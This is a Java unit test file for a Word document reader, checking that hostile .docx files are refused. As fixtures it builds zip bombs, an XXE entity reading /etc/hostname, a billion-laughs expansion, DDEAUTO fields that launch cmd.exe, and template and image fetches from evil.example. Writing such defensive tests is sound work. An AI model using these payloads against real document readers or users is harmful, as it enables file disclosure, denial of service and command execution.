package org.plenary.word;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTimeout;
import static org.plenary.word.WordFile.p;
import static org.plenary.word.WordFile.r;

import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.Arrays;
import org.junit.jupiter.api.Test;
import org.plenary.refusal.Refused;

/** Files made to do harm get a no, and the right one. */
class HostileWordTest {

  private static void refused(String code, byte[] file) {
    Refused no = assertThrows(Refused.class, () -> WordReader.read(file));
    assertEquals(code, no.refusal().code());
  }

  private static final String W =
      "xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"";

  private static WordFile good() {
    return WordFile.of(p(r("words")));
  }

  @Test
  void aPartThatUnpacksToAHundredTimesItsSize() {
    refused("word.bomb", good().part("word/media/a.xml", " ".repeat(4_000_000)).bytes());
  }

  @Test
  void thousandsOfParts() {
    WordFile file = good();
    for (int i = 0; i < 1_100; i++) {
      file.part("word/media/" + i, "");
    }
    refused("word.bomb", file.bytes());
  }

  @Test
  void twoPartsThatShareBytes() {
    byte[] file = good().part("word/a", "one").part("word/b", "two").bytes();
    int first = find(file, "word/a", 0);
    int second = find(file, "word/b", 0);
    int table = find(file, "word/b", second + 1);
    int at = first - 30;
    assertEquals('P', file[at]);
    for (int i = 0; i < 4; i++) {
      file[table - 4 + i] = (byte) (at >> (8 * i));
    }
    refused("word.bomb", file);
  }

  @Test
  void twoPartsOfOneName() {
    byte[] file = good().part("word/a", "one").part("word/b", "two").bytes();
    for (int at = find(file, "word/b", 0); at >= 0; at = find(file, "word/b", at + 1)) {
      file[at + 5] = 'A';
    }
    refused("word.bomb", file);
  }

  @Test
  void aPartThatIsLargerThanItSays() {
    byte[] file = good().part("word/document.xml", "<a>" + "x".repeat(5_000) + "</a>").bytes();
    int table = find(file, "word/document.xml", find(file, "word/document.xml", 0) + 1) - 46;
    file[table + 24] = 10;
    file[table + 25] = 0;
    refused("word.bomb", file);
  }

  @Test
  void damagedCutAndForeignFiles() {
    byte[] file = good().bytes();
    refused("word.archive", Arrays.copyOf(file, file.length - 30));
    refused("word.archive", "PK\3\4 and then nothing".getBytes(StandardCharsets.UTF_8));
    byte[] older = new byte[4_096];
    System.arraycopy(
        new byte[] {
          (byte) 0xd0, (byte) 0xcf, 0x11, (byte) 0xe0, (byte) 0xa1, (byte) 0xb1, 0x1a, (byte) 0xe1
        },
        0,
        older,
        0,
        8);
    refused("word.archive", older);
    file[find(file, "word/document.xml", 0) + 20] ^= 0x55;
    refused("word.archive", file);
    refused("word.type", good().part("[Content_Types].xml", "<Types/>").bytes());
  }

  @Test
  void entitiesAndDocumentTypes() {
    String outside =
        "<!DOCTYPE a [<!ENTITY e SYSTEM \"file:///etc/hostname\">]>"
            + "<w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\">"
            + "<w:body><w:p><w:r><w:t>&e;</w:t></w:r></w:p></w:body></w:document>";
    refused("word.dtd", good().part("word/document.xml", outside).bytes());
    String laughs =
        "<!DOCTYPE a [<!ENTITY a \"ha\"><!ENTITY b \"&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;\">]>"
            + "<a>&c;</a>";
    refused("word.dtd", good().part("word/document.xml", laughs).bytes());
  }

  @Test
  void twentyThousandElementsDeep() {
    for (String element : new String[] {"w:ins", "w:tbl", "w:sdt", "w:p", "w:txbxContent"}) {
      String deep = ("<" + element + ">").repeat(20_000) + ("</" + element + ">").repeat(20_000);
      refused("word.deep", WordFile.of(deep).bytes());
    }
  }

  /** The reader of Java compares each of them with all before it. */
  @Test
  void aTagWithAHundredThousandNames() {
    StringBuilder names = new StringBuilder("<x ");
    for (int i = 0; i < 100_000; i++) {
      names.append("xmlns:n").append(i).append("=\"u>").append(i).append("\" ");
    }
    byte[] file = WordFile.of(p(r("words")) + names + "/>").bytes();
    assertTimeout(Duration.ofSeconds(4), () -> refused("word.malformed", file));
    String many =
        "<w:p><!-- it's = --><w:r><w:t xml:space=\"preserve\"><![CDATA[=\"<]]></w:t></w:r></w:p>";
    assertEquals(
        "=\"<",
        WordReader.read(WordFile.of(many.repeat(2_000)).bytes())
            .lines(View.ACCEPTED)
            .get(1_999)
            .text(),
        "signs that are in no tag, and quotes that never end, count nothing");
  }

  /** A note is words again at each of its marks. */
  @Test
  void twentyThousandMarksOfOneNote() {
    String mark = "<w:r><w:footnoteReference w:id=\"2\"/></w:r>";
    WordFile file = WordFile.of(p(mark.repeat(20_000)));
    refused(
        "word.large",
        file.with("footnotes", "<w:footnote w:id=\"2\">" + p(r("x")) + "</w:footnote>").bytes());
  }

  @Test
  void macrosAndWhatWouldBeFetched() {
    refused("word.macros", good().part("word/vbaProject.bin", "x").bytes());
    refused(
        "word.external", good().related("image", "http://127.0.0.1:9/a.png", "External").bytes());
    refused(
        "word.external",
        good().related("attachedTemplate", "https://evil.example/a.dotm", "External").bytes());
  }

  private static String field(String... code) {
    StringBuilder runs = new StringBuilder("<w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>");
    for (String piece : code) {
      runs.append("<w:r><w:instrText>").append(piece).append("</w:instrText></w:r>");
    }
    return runs + "<w:r><w:fldChar w:fldCharType=\"end\"/></w:r>";
  }

  @Test
  void fieldsThatStartProgramsOrFetchAndControls() {
    refused("word.macros", WordFile.of(p(field(" DDEAUTO c:\\\\cmd.exe \"/k\" "))).bytes());
    refused("word.macros", WordFile.of(p(field("D", "DE", " excel x"))).bytes());
    String simple = "<w:p><w:fldSimple w:instr=\"ddeauto cmd\"/></w:p>";
    refused("word.macros", WordFile.of(simple).bytes());
    refused("word.macros", good().with("header1", simple).bytes());
    byte[] wide = ("<a " + W + ">" + simple + "</a>").getBytes(StandardCharsets.UTF_16);
    refused("word.macros", good().part("word/header1.xml", wide).bytes());
    refused(
        "word.external",
        WordFile.of(p(field(" INCLUDEPICTURE \"https://evil.example/a.png\" \\d"))).bytes());
    refused("word.external", WordFile.of(p(field(" INCLUDETEXT \"\\\\\\\\host\\\\a\""))).bytes());
    refused(
        "word.macros",
        good().typed("word/activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml").bytes());
    assertEquals(
        1,
        WordReader.read(
                WordFile.of(p(field(" HYPERLINK \"https://www.example.org/\" "), r("DDE"))).bytes())
            .paragraphs()
            .size());
  }

  @Test
  void linksOfPeopleAndTheAuthorsOwnTemplateAreNoHarm() {
    byte[] file =
        good()
            .related("hyperlink", "https://www.example.org/", "External")
            .related("attachedTemplate", "file:///C:/Templates/POOL.dotm", "External")
            .bytes();
    assertEquals("words", WordReader.read(file).lines(View.ACCEPTED).get(0).text());
  }

  private static int find(byte[] file, String what, int from) {
    byte[] bytes = what.getBytes(StandardCharsets.UTF_8);
    for (int at = from; at <= file.length - bytes.length; at++) {
      if (Arrays.equals(file, at, at + bytes.length, bytes, 0, bytes.length)) {
        return at;
      }
    }
    return -1;
  }
}
